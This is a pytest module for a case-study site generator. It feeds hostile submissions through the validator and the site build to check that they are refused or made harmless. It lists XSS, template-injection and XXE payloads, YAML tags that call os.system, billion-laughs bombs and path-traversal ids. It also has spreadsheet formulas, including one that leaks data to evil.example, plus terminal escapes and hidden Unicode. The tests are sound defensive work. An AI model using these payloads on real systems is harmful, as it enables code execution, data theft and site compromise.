"""Untrusted input: hostile case studies can neither break, attack nor leak through the site.

Case studies arrive from strangers by pull request. These tests play the stranger:

- YAML built to attack the parser (bombs, tags, huge or broken files) gets a located
  problem from ``copro validate`` and never a traceback;
- text built to attack the site (the XSS payloads in ``tests/whole_site/adversarial/xss.txt``, template
  and snippet syntax, spreadsheet formulas, invisible Unicode) goes into every text field of
  a valid case; one site is built from all of them and every file it writes is scanned;
- ids cannot choose where the build writes, and a failed build changes nothing.
"""

from __future__ import annotations

import base64
import copy
import csv
import gzip
import hashlib
import html
import io
import json
import os
import re
import shutil
import subprocess
import time
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner, Result
from mkdocs.utils.yaml import yaml_load

from generator.cases.load import MAX_BYTES, MAX_DEPTH, load_case_bytes
from generator.cases.rules import HIDDEN_CHARACTERS
from generator.cases.text import LINK_REL
from generator.cases.validate import validate_files
from generator.charts.render import SAFE_ELEMENTS
from generator.cli import main
from tests.conftest import ROOT, VALID_EXAMPLE
from tests.site_project import build_project, make_project

CORPUS = Path(__file__).resolve().parent / "adversarial"
EXAMPLE_NAME = VALID_EXAMPLE.name
EXAMPLE_TEXT = VALID_EXAMPLE.read_text(encoding="utf-8")
EXAMPLE: dict[str, Any] = load_case_bytes(VALID_EXAMPLE.read_bytes(), EXAMPLE_NAME).data


# ---------------------------------------------------------------- the corpus


def read_payloads(name: str) -> list[str]:
    """Return the payloads of a corpus file: one a line, without comments and blank lines."""
    lines = (CORPUS / name).read_text(encoding="utf-8").splitlines()
    return [line for line in lines if line and not line.startswith("# ")]


XSS = read_payloads("xss.txt")
# Each template payload is wrapped in "zq" so that an evaluated one would show as zq49zq.
TEMPLATES = [
    "zq{{ 7*7 }}zq",
    "zq{{7*'7'}}zq",
    "zq{% raw %}zq",
    "zq{{ config }}zq",
    "zq{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}zq",
    "zq{{ lipsum.__globals__['os'].environ }}zq",
    "zq{% include '/etc/passwd' %}zq",
    "zq{# a comment #}zq",
    "zq${7*7}zq #{7*7} <%= 7*7 %> [[7*7]]",
]
SNIPPETS = [
    '--8<-- "/etc/passwd"',
    ';--8<-- "../../../../../../etc/passwd"',
    '--8<-- "https://evil.example/include.md"',
    "{!/etc/passwd!}",
    "<!-- copro:home -->",
    "<!-- copro:newest -->",
    '{: onclick="alert(1)" } and { .md-button onclick="alert(1)" }',
    "[TOC]",
]
# Spreadsheet formulas (OWASP CSV injection), and look-alikes that must stay as they are.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the report")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
    "=1+1",
    "\uff1d1+1 fullwidth equals",
    " =1+1 after a space",
]
UNICODE = [
    "line\u2028separator\u2029paragraph separator",
    "emoji \U0001f600 \U0001f44d\U0001f3fd skin tone, flags \U0001f1ec\U0001f1e7",
    "combining e\u0301\u0301\u0301\u0301\u0301 marks",
    "\uff1cscript\uff1e fullwidth brackets \uff1c/script\uff1e",
    "homoglyph R\u0456vers\u0456de (Cyrillic i)",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea right to left",
]
VEGA = [
    "datum.value + alert(1)",
    "'+alert(1)+'",
    '"}]}, {"mark": "text", "encoding": {"href": "javascript:alert(1)"}}',
    "${alert(1)} %{alert(1)}",
]
MISC = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "&lt;script&gt;alert(1)&lt;/script&gt; stays as written",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "]]><script>alert(1)</script><![CDATA[",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]><x>&xxe;</x>",
    "*" * 60 + " " + "_" * 60 + " " + "[" * 60,
    "W" * 2000,  # one long word (truncated to each field's limit)
]
# Invisible characters that reverse or hide text: refused in every field, with a located problem.
HIDDEN = [
    "Riverside \u202egnp.exe\u202c centre",
    "\u2066isolate\u2069 and \u2067right to left\u2069 and \u202bembedding",
    "zero\u200bwidth\u200d joiner\ufeff byte order mark",
    "a\u200cnon-joiner and a word\u2060joiner",
    "marks \u200eleft to right\u200f and right to left, \u061carabic letter mark",
    "emoji joined \U0001f469\u200d\U0001f469\u200d\U0001f467 into a family",
    "tag characters \U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 hide words",
    "jane\u200b@example.org split so the personal-data check misses it",
    # Issue #22: format characters and invisible fillers, refused like the bidi controls.
    "a soft\u00adhyphen and a grapheme\u034fjoiner",
    "deprecated \u206aformat\u206f characters and a Mongolian\u180bselector",
    "variation\ufe0f selectors\ufe00 and a musical \U0001d173format character",
    "Hangul fillers \u115f\u1160\u3164\uffa0 and a blank braille\u2800pattern",
]
HOSTILE_TEXT = list(dict.fromkeys(XSS + TEMPLATES + SNIPPETS + FORMULAS + UNICODE + VEGA + MISC))
# Web addresses the schema accepts (they start https://) that still try to break out.
HOSTILE_URLS = [
    'https://example.org/"><script>alert(1)</script>',
    "https://example.org/'onmouseover='alert(1)",
    "https://example.org/#javascript:alert(1)",
    "https://javascript:alert(1)@example.org/",
    "https://example.org/?q=<img/src/onerror=alert(1)>",
    "https://ex\u0430mple.org/homoglyph",
    "https://example.org/%0d%0aSet-Cookie:x=1%00",
]
REFUSED_URLS = [
    "javascript:alert(1)",
    "JavaScript:alert(document.domain)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "/relative/path",
    "https:/evil.example",
    "https://evil",
    "ftp://example.org/x",
    "HTTPS://EXAMPLE.ORG/",
]
ETC_PASSWD = "root:x:0:0"


def fit(text: str, low: int, high: int) -> str:
    """Return the text padded to ``low`` characters and cut to ``high``."""
    if len(text) < low:
        text = text + " padding" * ((low - len(text)) // 8 + 1)
    return text[:high]


def hostile_case(case_id: str, text: str, url: str) -> dict[str, Any]:
    """Return the valid example with ``text`` in every text field and ``url`` in every link."""
    case = copy.deepcopy(EXAMPLE)
    case["id"] = case_id
    case["title"] = fit(text, 10, 140)
    case["summary"] = fit(text, 50, 1500)
    case["authors"] = [
        {"name": fit(text, 1, 120), "organisation": fit(text, 1, 200), "role": fit(text, 1, 120)},
        *case["authors"],
    ]
    case["organisation"].update(name=fit(text, 2, 200), url=url)
    case["service"].update(name=fit(text, 2, 200), region=fit(text, 2, 120))
    copro = case["coproduction"]
    copro.update(
        aim=fit(text, 1, 2000), description=fit(text, 1, 5000), inclusion=fit(text, 1, 2000)
    )
    copro["participants"][0]["description"] = fit(text, 1, 500)
    copro["accessibility"] = [fit(text, 1, 300), *copro["accessibility"]]
    case["evaluation"]["limitations"] = fit(text, 1, 3000)
    for principle in case["principles"].values():
        principle["evidence"] = fit(text, 1, 2000)
    case["experience"][0]["question"] = fit(text, 3, 300)
    for outcome in case["outcomes"]:
        outcome.update(measure=fit(text, 3, 200), finding=fit(text, 1, 2000))
        outcome["attribution"] = fit(text, 1, 2000)
        outcome["baseline"]["note"] = fit(text, 1, 500)
        outcome["results"][0]["note"] = fit(text, 1, 500)
    for key in ("worked_well", "less_well", "changes_made"):
        case["learning"][key] = [fit(text, 3, 500), *case["learning"][key]]
    case["sources"] = [
        {"title": fit(text, 3, 300), "url": url, "year": 2024, "type": "report"},
        {"title": fit(text, 3, 300), "type": "other"},
    ]
    return case


def text_fields(case: Any, path: str = "") -> Iterator[tuple[str, str]]:
    """Yield (path, text) for every string in a case."""
    if isinstance(case, dict):
        for key, value in case.items():
            yield from text_fields(value, f"{path}.{key}" if path else key)
    elif isinstance(case, list):
        for index, value in enumerate(case):
            yield from text_fields(value, f"{path}[{index}]")
    elif isinstance(case, str):
        yield path, case


def dump_case(case: dict[str, Any]) -> str:
    """Write a case as YAML text the way an author could have written it."""
    return yaml.safe_dump(case, sort_keys=False, allow_unicode=True, width=10**6)


def write_case(folder: Path, case: dict[str, Any], name: str | None = None) -> Path:
    """Write a case into a folder as ``<id>.yaml`` (or ``name``) and return its path."""
    path = folder / (name or f"{case['id']}.yaml")
    path.write_text(dump_case(case), encoding="utf-8")
    return path


def hostile_cases() -> list[dict[str, Any]]:
    """Return one valid-but-hostile case per payload."""
    return [
        hostile_case(f"hostile-{n:03d}", text, HOSTILE_URLS[n % len(HOSTILE_URLS)])
        for n, text in enumerate(HOSTILE_TEXT)
    ]


def validate(runner: CliRunner, *paths: Path) -> tuple[Result, list[dict[str, Any]]]:
    """Run ``copro validate --format json`` and return the result and its problems."""
    result = runner.invoke(main, ["validate", "--format", "json", *map(str, paths)])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert "Traceback" not in result.output
    return result, json.loads(result.output)["problems"] if result.output.strip() else []


def test_corpus_is_big_enough() -> None:
    assert len(XSS) >= 30
    assert len(HOSTILE_TEXT) >= 100


def test_every_hostile_text_is_valid_and_written_losslessly(tmp_path: Path) -> None:
    """Most attacks are valid text: the site must be safe with them, not the validator strict."""
    for case in hostile_cases():
        path = write_case(tmp_path, case)
        assert load_case_bytes(path.read_bytes(), path.name).data == case
    report = validate_files(sorted(tmp_path.glob("*.yaml")))
    assert report.ok, "\n".join(p.text() for p in report.problems[:5])


# ---------------------------------------------------------------- (a) YAML attacks


def replace_line(number: int, new: str, text: str = EXAMPLE_TEXT) -> str:
    """Return the example with one line (counted from 1) replaced."""
    lines = text.split("\n")
    lines[number - 1] = new
    return "\n".join(lines)


def insert_after(number: int, block: str, text: str = EXAMPLE_TEXT) -> str:
    """Return the example with ``block`` inserted after line ``number``."""
    lines = text.split("\n")
    return "\n".join([*lines[:number], block, *lines[number:]])


def _line_of(prefix: str) -> int:
    return next(n for n, line in enumerate(EXAMPLE_TEXT.split("\n"), 1) if line.startswith(prefix))


TITLE = _line_of("title:")
BASELINE = _line_of("    baseline: {value: 58")
ORGANISATION = _line_of("organisation:")
LAST = EXAMPLE_TEXT.count("\n")  # the file ends with a newline
LAUGHS = "\n".join(
    [
        'lol0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]',
        *(f"lol{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10)),
    ]
)
MARKER = Path("/tmp/copro-adversarial-pwned")


@dataclass(frozen=True)
class Attack:
    """A broken or unsafe case file, the line its problem must point at and words it must use."""

    name: str
    source: bytes
    line: int
    words: str
    file_name: str = EXAMPLE_NAME


def _attack(name: str, text: str | bytes, line: int, words: str) -> Attack:
    return Attack(name, text.encode("utf-8") if isinstance(text, str) else text, line, words)


TITLE_TEXT = "Redesigning Riverside Day Centre with the people who use it"
YAML_ATTACKS = [
    _attack("billion-laughs", insert_after(1, LAUGHS), 2, "anchors"),
    _attack("anchor", replace_line(TITLE, f"title: &t {TITLE_TEXT}"), TITLE, "anchors"),
    _attack("alias", replace_line(TITLE, "title: *t"), TITLE, "alias"),
    _attack("merge-key", insert_after(ORGANISATION, "  <<: *base"), ORGANISATION + 1, "alias"),
    _attack(
        "python-object-apply",
        replace_line(TITLE, f'title: !!python/object/apply:os.system ["touch {MARKER}"]'),
        TITLE,
        "tag",
    ),
    _attack(
        "python-object-new",
        replace_line(TITLE, f'title: !!python/object/new:subprocess.Popen [["touch", "{MARKER}"]]'),
        TITLE,
        "tag",
    ),
    _attack("python-name", replace_line(TITLE, "title: !!python/name:os.system"), TITLE, "tag"),
    _attack("python-module", replace_line(TITLE, "title: !!python/module:os"), TITLE, "tag"),
    _attack("binary", replace_line(TITLE, "title: !!binary aGVsbG8="), TITLE, "tag"),
    _attack("set", replace_line(TITLE, "title: !!set {a, b}"), TITLE, "tag"),
    _attack("timestamp", replace_line(TITLE, "title: !!timestamp 2025-03-14"), TITLE, "tag"),
    _attack("custom-tag", replace_line(TITLE, "title: !custom Riverside"), TITLE, "tag"),
    _attack(
        "verbatim-tag",
        replace_line(TITLE, "title: !<tag:yaml.org,2002:python/object/apply:os.system> [id]"),
        TITLE,
        "tag",
    ),
    _attack(
        "tag-directive",
        "%TAG !py! tag:yaml.org,2002:python/\n---\n"
        + replace_line(TITLE, "title: !py!object/apply:os.system [id]"),
        TITLE + 2,
        "tag",
    ),
    _attack("two-documents", EXAMPLE_TEXT + "---\ntitle: A second case\n", LAST + 1, "document"),
    _attack("end-then-document", EXAMPLE_TEXT + "...\n---\nid: x\n", LAST + 2, "document"),
    _attack(
        "huge-file",
        replace_line(TITLE, "title: " + "x" * (MAX_BYTES + 1)),
        1,
        f"limit is {MAX_BYTES // 1024} KiB",
    ),
    _attack("deep-flow-nesting", replace_line(TITLE, "title: " + "[" * 100_000), TITLE, "nested"),
    _attack(
        "deep-block-nesting",
        insert_after(1, "\n".join(f"{'  ' * n}k{n}:" for n in range(MAX_DEPTH + 2)) + " x"),
        1 + MAX_DEPTH,  # the key that would open level MAX_DEPTH + 1
        "nested",
    ),
    _attack(
        "latin-1",
        replace_line(TITLE, "title: Riv\xe9rside day centre").encode("latin-1"),
        TITLE,
        "UTF-8",
    ),
    _attack("utf-16", EXAMPLE_TEXT.encode("utf-16"), 1, "UTF-8"),
    _attack("raw-nul", replace_line(TITLE, f"title: {TITLE_TEXT}\x00"), TITLE, "control character"),
    _attack(
        "escaped-nul", replace_line(TITLE, f'title: "{TITLE_TEXT}\\0"'), TITLE, "control character"
    ),
    _attack(
        "terminal-escape",
        replace_line(TITLE, f'title: "\\e[2K\\e[1A{TITLE_TEXT}"'),
        TITLE,
        "control character",
    ),
    _attack(
        "c1-control",
        replace_line(TITLE, f'title: "\\x9b2J{TITLE_TEXT}"'),
        TITLE,
        "control character",
    ),
    _attack("surrogate", replace_line(TITLE, f'title: "\\ud800{TITLE_TEXT}"'), TITLE, "Unicode"),
    _attack("bom-mid-file", insert_after(2, "\ufeffid: x"), 3, "cannot be read"),
    *(
        _attack(
            f"number-{word}",
            replace_line(BASELINE, f"    baseline: {{value: {word}, date: 2022-11, n: 64}}"),
            BASELINE,
            "not a number that can be shown",
        )
        for word in (".nan", ".NaN", ".inf", "-.inf", "+.Inf", "1e400", "9" * 5000, "9" * 400)
    ),
    _attack("title-too-long", replace_line(TITLE, "title: " + "x" * 141), TITLE, "limit is 140"),
    _attack(
        "summary-too-long",
        EXAMPLE_TEXT.replace("  a year later,", "  a year later, " + "x" * 1500),
        _line_of("summary:"),
        "limit is 1500",
    ),
    _attack(
        "measure-too-long",
        EXAMPLE_TEXT.replace("measure: Complaints per quarter", "measure: " + "x" * 201),
        _line_of("    measure: Complaints per quarter"),
        "limit is 200",
    ),
    _attack(
        "too-many-authors",
        insert_after(_line_of("authors:"), "  - name: Someone\n" * 31),
        _line_of("authors:") + 1,
        "limit is 30",
    ),
    _attack(
        "ten-thousand-outcomes",
        EXAMPLE_TEXT.replace(
            "outcomes:\n",
            "outcomes:\n" + "  - {measure: Cost, finding: x}\n" * 10_000,
        ),
        _line_of("outcomes:") + 1,
        "limit is 60",
    ),
    _attack(
        "one-long-string",
        replace_line(TITLE, "title: " + "x" * (MAX_BYTES - len(EXAMPLE_TEXT) - 100)),
        TITLE,
        "limit is 140",
    ),
    _attack(
        "nested-lists-within-depth",
        replace_line(TITLE, "title: " + "[" * (MAX_DEPTH - 2) + "x" + "]" * (MAX_DEPTH - 2)),
        TITLE,
        "should be text",
    ),
    _attack("complex-key", insert_after(1, "? [a, b]\n: c"), 2, "field name must be plain text"),
    _attack(
        "duplicate-key",
        insert_after(TITLE, "title: Another title for the same case"),
        TITLE + 1,
        "appears twice",
    ),
    _attack("long-key", insert_after(1, "? " + "k" * 100_000 + "\n: 1"), 2, "is not a field"),
    _attack("tab-indent", insert_after(ORGANISATION, "\tname: x"), ORGANISATION + 1, "tab"),
    _attack(
        "url-redos",
        replace_line(ORGANISATION + 3, '  url: "https://' + "a." * 100_000 + ' x"'),
        ORGANISATION + 3,
        "limit is 2000",
    ),
    _attack(
        "unique-items-dos",
        EXAMPLE_TEXT.replace(
            "stages: [co-design, co-delivery, co-assessment]",
            "stages: [" + ", ".join(f"{{a: {n}}}" for n in range(20_000)) + "]",
        ),
        _line_of("  stages:"),
        "limit is 5",
    ),
]


@pytest.mark.parametrize("attack", YAML_ATTACKS, ids=[a.name for a in YAML_ATTACKS])
def test_yaml_attack_gets_a_located_problem(
    attack: Attack, tmp_path: Path, runner: CliRunner
) -> None:
    path = tmp_path / attack.file_name
    path.write_bytes(attack.source)
    started = time.monotonic()
    result, problems = validate(runner, path)
    assert time.monotonic() - started < 10, "validation must stay fast on hostile input"
    assert result.exit_code == 1, result.output[:2000]
    assert problems and all(p["file"].endswith(attack.file_name) for p in problems)
    assert all(p["line"] >= 1 and p["column"] >= 1 for p in problems)
    located = [p for p in problems if attack.words in f"{p['message']} {p['hint']}"]
    assert located, [p["message"] for p in problems][:5]
    assert located[0]["line"] == attack.line, located[0]
    assert not MARKER.exists()


def test_text_report_never_prints_control_characters(tmp_path: Path, runner: CliRunner) -> None:
    """A value cannot rewrite the maintainer's terminal (erase lines, fake a clean run)."""
    path = tmp_path / EXAMPLE_NAME
    hostile = '"\\e[2K\\e[1A\\r1 file checked, no problems.\\e]8;;https://evil.example\\a"'
    path.write_text(replace_line(TITLE, f"title: {hostile}"), encoding="utf-8")
    result = runner.invoke(main, ["validate", str(path)])
    assert result.exit_code == 1
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", result.output), repr(result.output)


def test_loader_never_expands_an_alias() -> None:
    started = time.monotonic()
    doc = load_case_bytes(insert_after(1, LAUGHS).encode(), EXAMPLE_NAME)
    assert time.monotonic() - started < 1
    assert doc.data is None and not doc.ok
    aliased = insert_after(TITLE, "summary2: *t", replace_line(TITLE, f"title: &t {TITLE_TEXT}"))
    doc = load_case_bytes(aliased.encode(), EXAMPLE_NAME)
    assert doc.data is None and "anchors" in doc.problems[0].message


def test_a_bom_is_tolerated(tmp_path: Path, runner: CliRunner) -> None:
    (tmp_path / EXAMPLE_NAME).write_bytes(b"\xef\xbb\xbf" + EXAMPLE_TEXT.encode())
    result, problems = validate(runner, tmp_path / EXAMPLE_NAME)
    assert result.exit_code == 0 and problems == []


@pytest.mark.parametrize("url", REFUSED_URLS)
@pytest.mark.parametrize("where", ["organisation.url", "sources[0].url"])
def test_links_other_than_web_addresses_are_refused(
    url: str, where: str, tmp_path: Path, runner: CliRunner
) -> None:
    case = copy.deepcopy(EXAMPLE)
    if where == "organisation.url":
        case["organisation"]["url"] = url
    else:
        case["sources"][0]["url"] = url
    path = write_case(tmp_path, case)
    result, problems = validate(runner, path)
    assert result.exit_code == 1
    assert [p["path"] for p in problems] == [where]
    assert problems[0]["line"] > 1


@pytest.mark.parametrize(
    "case_id",
    [
        "../../etc/passwd",
        "..",
        ".",
        "a/b",
        "a\\b",
        "%2e%2e%2fetc",
        "Foo",
        "foo ",
        "f\u043e\u043e",  # Cyrillic o
        "foo\u202e",
        "-foo",
        "foo--bar",
        "foo.yaml",
        "x" * 81,
        "",
    ],
)
def test_ids_are_slugs(case_id: str, tmp_path: Path, runner: CliRunner) -> None:
    case = copy.deepcopy(EXAMPLE)
    case["id"] = case_id
    path = write_case(tmp_path, case, EXAMPLE_NAME)
    id_line = next(
        n for n, line in enumerate(dump_case(case).split("\n"), 1) if line.startswith("id:")
    )
    result, problems = validate(runner, path)
    assert result.exit_code == 1
    assert {p["path"] for p in problems} == {"id"}
    assert all(p["line"] == id_line for p in problems)


@pytest.mark.parametrize(
    ("names", "words"),
    [
        (["Foo.yaml", "foo.yaml"], "differs from the file name"),
        (["foo.yaml", "foo.yml"], "already used"),
        (["foo.yaml", "bar.yaml"], "differs from the file name"),
        (["f\u043e\u043e.yaml", "foo.yaml"], "differs from the file name"),
    ],
)
def test_one_id_one_file(names: list[str], words: str, tmp_path: Path, runner: CliRunner) -> None:
    """Ids differing only by case, homoglyph file names, duplicate ids: all refused."""
    case = copy.deepcopy(EXAMPLE)
    case["id"] = "foo"
    for name in names:
        write_case(tmp_path, case, name)
    result, problems = validate(runner, tmp_path)
    assert result.exit_code == 1
    assert any(words in p["message"] for p in problems), problems
    assert all(p["line"] >= 1 and p["column"] >= 1 for p in problems)


def test_a_link_to_a_file_outside_is_refused(tmp_path: Path, runner: CliRunner) -> None:
    """A symlinked case could publish, or quote in messages, a file from outside the folder."""
    outside = tmp_path / "outside.yaml"
    outside.write_text(EXAMPLE_TEXT, encoding="utf-8")
    cases = tmp_path / "evaluations"
    cases.mkdir()
    (cases / EXAMPLE_NAME).symlink_to(outside)
    result, problems = validate(runner, cases)
    assert result.exit_code == 1
    assert "link to another file" in problems[0]["message"]


def test_file_names_cannot_rewrite_the_report(tmp_path: Path, runner: CliRunner) -> None:
    """Git stores any bytes in a file name: escapes, bidi controls, bytes that are not UTF-8."""
    cases = tmp_path / "evaluations"
    cases.mkdir()
    for raw in (
        b"\x1b]8;;evil.example\x07x.yaml",
        b"\xff\x1b[2Jx.yaml",
        b"a\xe2\x80\xaex.yaml",
    ):
        (cases / os.fsdecode(raw)).write_bytes(VALID_EXAMPLE.read_bytes())
    result, problems = validate(runner, cases)
    assert result.exit_code == 1 and len(problems) == 5  # 3 names differ from the id, 2 repeat it
    text = runner.invoke(main, ["validate", str(cases)]).output
    for output in (text, *(p["file"] for p in problems)):
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\udc80-\udcff]", output)
    assert text.count("differs from the file name") == 3


# ---------------------------------------------------------------- (b) one hostile site


def _digest(folder: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and p.relative_to(folder).parts[0] not in skip
    }


@dataclass
class HostileSite:
    """The built site, the project it came from and the cases it holds."""

    project: Path
    site: Path
    cases: dict[str, dict[str, Any]]
    before: dict[str, str] = field(default_factory=dict)

    def page(self, url: str) -> str:
        return (self.site / url / "index.html").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> HostileSite:
    """Build one site from every hostile case plus the repository's own example."""
    project = make_project(tmp_path_factory.mktemp("hostile") / "project", [VALID_EXAMPLE])
    cases = {case["id"]: case for case in hostile_cases()}
    for case in cases.values():
        write_case(project / "evaluations", case)
    before = _digest(project)
    site = build_project(project)
    return HostileSite(project, site, cases, before)


class PageScan(HTMLParser):
    """Collect what a page would run or load: elements, attributes, scripts, title, links."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[tuple[dict[str, str], str]] = []
        self.title = ""
        self.case_links: list[dict[str, str]] = []
        self._in: str | None = None
        self._articles: list[bool] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        self.elements.append((tag, values))
        if tag in ("script", "title"):
            self._in = tag
            if tag == "script":
                self.scripts.append((values, ""))
        if tag == "article":
            self._articles.append("copro-case" in values.get("class", "").split())
        if tag == "a" and any(self._articles):
            self.case_links.append(values)

    def handle_endtag(self, tag: str) -> None:
        if tag == self._in:
            self._in = None
        if tag == "article" and self._articles:
            self._articles.pop()

    def handle_data(self, data: str) -> None:
        if self._in == "title":
            self.title += data
        elif self._in == "script":
            attrs, text = self.scripts[-1]
            self.scripts[-1] = (attrs, text + data)


def scan(path: Path) -> PageScan:
    parser = PageScan()
    parser.feed(path.read_text(encoding="utf-8"))
    parser.close()
    return parser


DATA_SCRIPT_IDS = {"__config", "copro-case-data", "copro-side-data", "copro-schema", "copro-checks"}
DATA_SCRIPT_IDS |= {"copro-case-jsonld", "copro-data-jsonld", "copro-case-record"}
# Forms of the theme (palette toggle, search) and of the site (case filters, compare chooser).
ALLOWED_FORMS = {
    "md-header__option",
    "md-search__form",
    "copro-filters",
    "copro-chooser",
    "copro-builder",
}
FORBIDDEN_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base"}
FORBIDDEN_ELEMENTS |= {"foreignobject", "style", "xmp", "plaintext", "noembed", "template"}
URL_ATTRIBUTES = {"href", "src", "xlink:href", "action", "formaction", "data", "poster"}
URL_ATTRIBUTES |= {"background", "dynsrc", "lowsrc", "srcset", "ping", "cite", "longdesc"}
BUILDER_PAGE = Path("contribute/builder/index.html")
BAD_SCHEME = re.compile(r"(?:java|vb)script:|data:", re.IGNORECASE)


def _html_files(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


def _site_scripts(hostile: HostileSite) -> set[str]:
    """Return the scripts the site ships: the theme's bundle and the project's own assets."""
    theme = {str(p.relative_to(hostile.site)) for p in hostile.site.glob("assets/javascripts/*.js")}
    own = hostile.project / "site_theme"
    return theme | {str(p.relative_to(own)) for p in own.rglob("*.js")}


def _theme_inline_scripts(hostile: HostileSite) -> set[str]:
    """Return the theme's inline scripts, as on the 404 page (no case text there)."""
    return {
        _same_scope(text) for attrs, text in scan(hostile.site / "404.html").scripts if not attrs
    }


def _same_scope(script: str) -> str:
    """Return an inline script with the page's base URL (it varies by depth) taken out."""
    return re.sub(r'new URL\("[./]*",location\)', 'new URL("",location)', script)


def _scheme_of(value: str) -> str:
    """Return a URL as a browser reads its scheme: no leading controls, no tabs or newlines."""
    return re.sub(r"[\x00-\x20]", "", value).lower()


@pytest.mark.slow
def test_pages_run_only_the_sites_own_scripts(hostile: HostileSite) -> None:
    shipped, inline = _site_scripts(hostile), _theme_inline_scripts(hostile)
    assert len(inline) >= 2 and "assets/copro/case-list.js" in shipped
    for path in _html_files(hostile.site):
        for attrs, text in scan(path).scripts:
            where = f"{path.relative_to(hostile.site)}: {attrs}"
            if "src" in attrs:
                src = re.sub(r"^(\.\./)+|^\.?/", "", attrs["src"])
                assert src in shipped and not text.strip(), where
            elif attrs.get("type") in ("application/json", "application/ld+json"):
                assert attrs.get("id") in DATA_SCRIPT_IDS or attrs.get("id", "").endswith(
                    ("-spec", "-spec-narrow")
                )
                json.loads(text)  # data, and whole: nothing closed the element early
                assert not re.search(r"</script|<!--|<script", text, re.IGNORECASE), where
            elif attrs.get("type") == "application/base64":  # the case record: base64 of JSON
                assert attrs.get("id") == "copro-case-record", where
                assert re.fullmatch(r"[A-Za-z0-9+/]*={0,2}", text.strip()), where
                json.loads(base64.b64decode(text))
            else:
                assert set(attrs) == set() and _same_scope(text) in inline, where


@pytest.mark.slow
def test_no_element_or_attribute_that_runs_loads_or_redirects(hostile: HostileSite) -> None:
    for path in _html_files(hostile.site):
        where = path.relative_to(hostile.site)
        for tag, attrs in scan(path).elements:
            # The builder's repeating groups are <template>s; that page holds no case text.
            allowed = {"template"} if where == BUILDER_PAGE else set()
            assert tag not in FORBIDDEN_ELEMENTS - allowed, (where, tag, attrs)
            assert not [a for a in attrs if a.startswith("on")], (where, tag, attrs)
            if tag == "form":
                names = {attrs.get("id", ""), *attrs.get("class", "").split()}
                assert names & ALLOWED_FORMS, (where, attrs)
            if tag == "meta":
                assert attrs.get("http-equiv", "").lower() != "refresh", (where, attrs)
            for name in URL_ATTRIBUTES & set(attrs):
                if _is_citation_download(tag, attrs):
                    continue
                assert not BAD_SCHEME.match(_scheme_of(attrs[name])), (where, tag, attrs)
            assert "expression(" not in attrs.get("style", "").lower(), (where, attrs)


# The one data: address allowed: a citation downloaded as a file, never shown as a page.
CITATION_DOWNLOAD = re.compile(
    r"data:application/(?:x-bibtex|x-research-info-systems);charset=utf-8,[A-Za-z0-9%._~-]*"
)


def _is_citation_download(tag: str, attrs: dict[str, str]) -> bool:
    """Return whether an element is a case's BibTeX or RIS download link, fully percent-encoded."""
    return (
        tag == "a"
        and re.fullmatch(r"[a-z0-9-]+\.(?:bib|ris)", attrs.get("download", "")) is not None
        and CITATION_DOWNLOAD.fullmatch(attrs.get("href", "")) is not None
    )


@pytest.mark.slow
def test_case_page_titles_are_the_case_titles_exactly(hostile: HostileSite) -> None:
    site_name = yaml_load((hostile.project / "mkdocs.yml").read_text())["site_name"]
    for case_id, case in hostile.cases.items():
        page = scan(hostile.site / "evaluations" / case_id / "index.html")
        title = case["title"].replace("\r\n", "\n").replace("\r", "\n")  # as HTML reads it
        assert page.title == f"{title} - {site_name}", case_id


@pytest.mark.slow
def test_raw_markup_from_cases_never_reaches_a_page(hostile: HostileSite) -> None:
    tags = {text for case in hostile.cases.values() for _, text in text_fields(case)}
    tags = {t for t in tags if re.search(r"<[A-Za-z/!?]", t)}
    assert len(tags) > 50
    pages = [*_html_files(hostile.site), *hostile.site.rglob("*.svg"), *hostile.site.glob("*.xml")]
    pages += list((hostile.site / "search").glob("*.json"))
    for path in pages:
        text = path.read_text(encoding="utf-8")
        leaked = [t for t in tags if t in text]
        assert not leaked, (path.relative_to(hostile.site), leaked[:3])


def _text_outputs(site: Path) -> Iterator[tuple[Path, str]]:
    for path in sorted(site.rglob("*")):
        if path.suffix in {".html", ".json", ".csv", ".xml", ".svg", ".yaml", ".bib", ".ris"}:
            yield path, html.unescape(path.read_text(encoding="utf-8"))


@pytest.mark.slow
def test_template_and_include_syntax_stays_text(hostile: HostileSite) -> None:
    project = str(hostile.project.resolve())
    for path, text in _text_outputs(hostile.site):
        where = path.relative_to(hostile.site)
        assert "zq49zq" not in text and "zq7777777zq" not in text, where
